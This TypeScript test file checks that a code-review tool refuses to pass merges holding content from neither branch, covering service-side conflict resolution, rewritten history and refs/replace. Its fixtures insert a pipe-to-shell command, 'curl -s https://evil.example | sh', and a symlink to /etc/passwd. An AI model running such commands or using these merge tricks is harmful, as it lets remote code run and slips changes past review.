import assert from 'node:assert/strict';
import { openStage } from '../../demo/stage';
import { type Files, repositoryOf } from '../../fakes/repository-of';
import { type Reviewed, reviewed, type Situation } from '../../situations/reviewed';
import type { Attack, Control } from '../attack';
import { type History, reviewHistory, type Told } from '../history';

const EVIL = 'curl -s https://evil.example | sh';
const CHECK = 'check "$1" || exit 1';
const lines = (over: Readonly<Record<number, string>> = {}, count = 20) =>
  `${Array.from({ length: count }, (_, at) => over[at + 1] ?? `echo step ${at + 1}`).join('\n')}\n`;

const BASE = { 'run.sh': lines(), 'other.sh': lines() };
const SOURCE = { ...BASE, 'run.sh': lines({ 3: 'echo ours' }) };
/** Changes the same line. */
const AGAINST = { ...BASE, 'run.sh': lines({ 3: 'echo theirs' }) };
/** Changes another line of the same file. */
const BESIDE = { ...BASE, 'run.sh': lines({ 15: 'echo theirs' }) };
const BOTH = { ...BASE, 'run.sh': lines({ 3: 'echo ours', 15: 'echo theirs' }) };

const BYTES = (seed: number) =>
  Buffer.from(Array.from({ length: 4_000 }, (_, at) => (at * seed * 7_919 + (at % 13) * 31) % 256));

/** The service made this of both branches. */
function merged(tries: string, must: string, situation: Situation, check: (result: Reviewed) => void): Attack {
  return { tries, must, through: 'review', run: async () => check(await reviewed({ base: BASE, ...situation })) };
}

function otherwise(tries: string, files: RegExp, situation: Situation): Attack {
  return merged(tries, 'the review is not whole, and names the file', situation, ({ record, status }) => {
    assert.deepEqual([record.situation, status?.state], ['partlyReviewed', 'error'], record.problems.join());
    assert.match(record.problems.join(), /The merge with the target branch holds what stands in neither branch/);
    assert.match(record.problems.join(), files);
  });
}

function asRead(what: string, situation: Situation): Attack {
  return merged(`nothing: ${what}`, 'the review is whole', situation, ({ record, status }) =>
    assert.deepEqual([record.situation, status?.state], ['reviewed', 'succeeded'], record.problems.join()),
  );
}

const without = (files: Files, ...paths: string[]) =>
  Object.fromEntries(Object.entries(files).filter(([path]) => !paths.includes(path)));

export const control: Control = {
  promise: 'What will be merged is what was read: a conflict that is resolved in the service takes the green away.',
  attacks: [
    {
      tries: 'resolves a conflict in the service, with a command in the resolved file that stands in no branch',
      must: 'the review is not whole, and neither is one that is run again after it',
      through: 'package',
      run: resolvesInService,
    },
    otherwise('resolves a conflict with lines of its own', /run\.sh/, {
      ...{ source: SOURCE, target: AGAINST },
      merged: { ...BASE, 'run.sh': lines({ 3: EVIL }) },
    }),
    otherwise('resolves it by its own file whole, which throws a mend of the target away', /run\.sh/, {
      source: SOURCE,
      target: { ...BASE, 'run.sh': lines({ 3: 'echo theirs', 18: 'check "$1" || exit 1' }) },
      merged: SOURCE,
    }),
    otherwise('has a file merged that merges by itself, with one more line', /run\.sh/, {
      ...{ source: SOURCE, target: BESIDE },
      merged: { ...BOTH, 'run.sh': `${BOTH['run.sh']}${EVIL}\n` },
    }),
    otherwise('has its own lines merged in another place', /run\.sh/, {
      ...{ source: SOURCE, target: BESIDE },
      merged: { ...BASE, 'run.sh': lines({ 5: 'echo ours', 15: 'echo theirs' }) },
    }),
    otherwise('has a script merged where its branch changed bytes', /hook/, {
      base: { ...BASE, hook: BYTES(1) },
      source: { ...SOURCE, hook: BYTES(2) },
      target: { ...BASE, hook: BYTES(3) },
      merged: { ...SOURCE, hook: `#!/bin/sh\n${EVIL}\n` },
    }),
    otherwise('has a command merged in a script of which its branch changed the mode', /other\.sh/, {
      ...{ source: SOURCE, modes: { source: { 'other.sh': '100755' } } },
      target: { ...BASE, 'other.sh': lines({ 3: 'echo theirs' }) },
      merged: { ...SOURCE, 'other.sh': EVIL },
    }),
    otherwise('has a command merged in a file that is empty in its branch', /e\.sh/, {
      base: { ...BASE, 'e.sh': '' },
      source: { ...SOURCE, 'e.sh': '' },
      modes: { source: { 'e.sh': '100755' } },
      merged: { ...SOURCE, 'e.sh': EVIL },
    }),
    otherwise('has a command merged in a script that is too large to be shown, and went away', /big\.sh/, {
      base: { ...BASE, 'big.sh': lines({}, 21_000) },
      source: SOURCE,
      target: { ...BASE, 'big.sh': lines({ 3: 'echo theirs' }, 21_000) },
      merged: { ...SOURCE, 'big.sh': EVIL },
    }),
    otherwise('has a file merged that neither branch has', /evil\.sh/, {
      ...{ source: SOURCE, target: BESIDE },
      merged: { ...BOTH, 'evil.sh': EVIL },
    }),
    otherwise('has a file merged that nobody changed', /other\.sh/, {
      source: SOURCE,
      merged: { ...SOURCE, 'other.sh': EVIL },
    }),
    otherwise('has a folder merged that only the target has', /lib\/b\.sh/, {
      source: SOURCE,
      target: { ...BASE, 'lib/a.sh': lines(), 'lib/b.sh': lines() },
      merged: { ...SOURCE, 'lib/a.sh': lines(), 'lib/b.sh': EVIL },
    }),
    otherwise('resolves a conflict over a file that the target took away by what it wants', /run\.sh/, {
      ...{ source: SOURCE, target: without(BASE, 'run.sh') },
      merged: { ...BASE, 'run.sh': EVIL },
    }),
    otherwise('moves a file that the target changed, and has other lines merged at its new place', /moved\.sh/, {
      source: { ...without(BASE, 'run.sh'), 'moved.sh': lines({ 3: 'echo ours' }) },
      target: BESIDE,
      merged: { ...without(BASE, 'run.sh'), 'moved.sh': `${EVIL}\n${BOTH['run.sh']}` },
    }),
    otherwise('adds the same file as the target, and resolves that', /new\.sh/, {
      source: { ...SOURCE, 'new.sh': 'echo one\n' },
      target: { ...BASE, 'new.sh': 'echo two\n' },
      merged: { ...SOURCE, 'new.sh': EVIL },
    }),
    otherwise('makes a link of a file as it resolves', /run\.sh/, {
      ...{ source: SOURCE, target: AGAINST, modes: { source: { 'link.sh': '120000' } } },
      merged: { ...BASE, 'run.sh': lines({ 3: 'echo theirs' }), 'link.sh': '/etc/passwd' },
    }),
    merged(
      'leaves a conflict to be resolved when the review is over',
      'the review is not whole',
      {
        ...{ source: SOURCE, target: AGAINST, merged: 'conflicts' },
      },
      ({ record, status }) => {
        assert.deepEqual([record.situation, status?.state], ['partlyReviewed', 'error']);
        assert.match(record.problems.join(), /The branches conflict/);
      },
    ),
    merged(
      'has the service merge anew for as long as the review runs',
      'the review is not whole',
      {
        ...{ source: SOURCE, merged: 'unknown' },
      },
      ({ record, status }) => {
        assert.deepEqual([record.situation, status?.state], ['partlyReviewed', 'error']);
        assert.match(record.problems.join(), /has not merged the branches yet/);
      },
    ),
    asRead('the target did not move', { source: SOURCE, merged: SOURCE }),
    asRead('both changed the same file in other places', { source: SOURCE, target: BESIDE, merged: BOTH }),
    asRead('the target took a file away', {
      ...{ source: SOURCE, target: without(BASE, 'other.sh') },
      merged: without(SOURCE, 'other.sh'),
    }),
    asRead('it moved a file that the target changed', {
      source: { ...without(BASE, 'run.sh'), 'moved.sh': lines({ 3: 'echo ours' }) },
      target: BESIDE,
      merged: { ...without(BASE, 'run.sh'), 'moved.sh': `${BOTH['run.sh']}` },
    }),
    asRead('the target moved a file that it changed', {
      source: SOURCE,
      target: { ...without(BASE, 'run.sh'), 'lib/run.sh': BESIDE['run.sh'] },
      merged: { ...without(BASE, 'run.sh'), 'lib/run.sh': BOTH['run.sh'] },
    }),
    asRead('a conflict in what a rule of ours leaves out', {
      base: { ...BASE, 'yarn.lock': lines() },
      source: { ...SOURCE, 'yarn.lock': lines({ 3: 'a' }) },
      target: { ...BASE, 'yarn.lock': lines({ 3: 'b' }) },
      merged: { ...SOURCE, 'yarn.lock': lines({ 3: 'c' }) },
    }),
    inHistory(
      'adds a line in a merge commit of the source branch, which neither of its parents has',
      'it is read',
      {},
      ({ git, commit, merge }) => {
        commit({ 'run.sh': lines({ 3: 'echo ours' }) });
        git('switch', '--quiet', 'main');
        commit({ 'other.sh': lines({ 5: 'echo theirs' }) });
        git('switch', '--quiet', 'topic');
        merge('main', { 'run.sh': lines({ 3: 'echo ours', 9: EVIL }) });
      },
      ({ sent }) => assert.match(sent, /9\+\s*curl -s/),
    ),
    inHistory(
      'takes the target in and throws its mend away, by the strategy "ours"',
      'the removed line is shown',
      {},
      ({ git, commit }) => {
        commit({ 'run.sh': lines({ 3: 'echo ours' }) });
        git('switch', '--quiet', 'main');
        commit({ 'other.sh': lines({ 5: CHECK }) });
        git('switch', '--quiet', 'topic');
        git('merge', '--quiet', '--strategy=ours', '--message', 'Merge', 'main');
      },
      ({ sent }) => assert.match(sent, /-\s*check /),
    ),
    inHistory(
      'does so where both branches took each other in',
      'the review is not whole, or the removed line is shown',
      {},
      ({ git, commit }) => {
        commit({ 'run.sh': lines({ 3: 'echo ours' }) });
        git('branch', 'first');
        git('switch', '--quiet', 'main');
        commit({ 'other.sh': lines({ 5: CHECK }) });
        git('branch', 'mend');
        git('merge', '--quiet', '--no-ff', '--message', 'Merge', 'first');
        git('switch', '--quiet', 'topic');
        git('merge', '--quiet', '--strategy=ours', '--message', 'Merge', 'mend');
        commit({ 'new.sh': 'echo new\n' });
      },
      ({ sent, state, problems }) =>
        assert.ok(/-\s*check /.test(sent) || (state === 'error' && /other\.sh/.test(problems)), problems),
    ),
    {
      tries: 'brings back what the target threw away since: its branch was set back behind the common commit',
      must: 'the review is not whole, and names the file',
      through: 'package',
      run: async () => {
        const { state, problems } = await reviewHistory(
          { ...BASE },
          ({ git, commit }) => {
            git('switch', '--quiet', 'main');
            commit({ 'other.sh': lines({ 5: EVIL }) });
            git('switch', '--quiet', 'topic');
            git('merge', '--quiet', 'main');
            commit({ 'run.sh': lines({ 3: 'echo ours' }) });
          },
          async (git, stage) => {
            git('update-ref', 'refs/heads/main', 'refs/heads/main~1');
            await stage.azureDevOps.refreshMerge(stage.pullRequestId);
          },
        );
        assert.equal(state, 'error', problems);
        assert.match(problems, /holds what stands in neither branch.*other\.sh/);
      },
    },
    {
      tries: 'nothing: the target took a part of the source in after the pull request was opened',
      must: 'the review is whole',
      through: 'package',
      run: async () => {
        const { state, problems } = await reviewHistory(
          { ...BASE },
          ({ git, commit }) => {
            commit({ 'run.sh': lines({ 3: 'echo ours' }) });
            git('branch', 'first');
            commit({ 'run.sh': lines({ 3: 'echo ours, but better' }) });
          },
          async (git, stage) => {
            git('update-ref', 'refs/heads/main', 'refs/heads/first');
            await stage.azureDevOps.refreshMerge(stage.pullRequestId);
          },
        );
        assert.equal(state, 'succeeded', problems);
      },
    },
    {
      tries: 'has git take another commit for the source by refs/replace',
      must: 'the source is read',
      through: 'package',
      run: async () => {
        const { sent } = await reviewHistory(
          { ...BASE },
          ({ commit }) => commit({ 'run.sh': lines({ 3: EVIL }) }),
          async (git) => void git('replace', 'refs/heads/topic', 'refs/heads/main'),
        );
        assert.match(sent, /3\+\s*curl -s/);
      },
    },
  ],
};

function inHistory(
  tries: string,
  must: string,
  files: Files,
  make: (history: History) => void,
  check: (told: Told) => void,
): Attack {
  return {
    tries,
    must,
    through: 'package',
    run: async () => check(await reviewHistory({ ...BASE, ...files }, make)),
  };
}

async function resolvesInService(): Promise<void> {
  const stage = await openStage({ repository: repositoryOf(BASE, SOURCE, { targetFiles: AGAINST }) });
  try {
    const left = await stage.run();
    assert.equal(left.outputVariables.outcome, 'partlyReviewed', left.rawOutput);
    stage.azureDevOps.registerToken('token-of-mallory', stage.azureDevOps.person('Mallory'));
    const { id } = stage.repository;
    const conflicts = `${stage.azureDevOps.url}Web%20Shop/_apis/git/repositories/${id}/pullRequests/${stage.pullRequestId}/conflicts`;
    const headers = { Authorization: 'bearer token-of-mallory', 'Content-Type': 'application/json' };
    const resolution = { mergeType: 'userMerged', userMergedContent: [...Buffer.from(lines({ 3: EVIL }))] };
    const answer = await fetch(`${conflicts}/1?api-version=7.1-preview.1`, {
      ...{ method: 'PATCH', headers },
      body: JSON.stringify({ conflictId: 1, resolutionStatus: 'resolved', resolution }),
    });
    assert.equal(answer.status, 200, await answer.text());
    const resolved = await stage.run();
    assert.equal(resolved.outputVariables.outcome, 'partlyReviewed', resolved.rawOutput);
    assert.match(resolved.rawOutput, /holds what stands in neither branch.*run\.sh/);
    assert.equal(stage.snapshot().statuses.at(-1)?.state, 'error');
  } finally {
    await stage.close();
  }
}
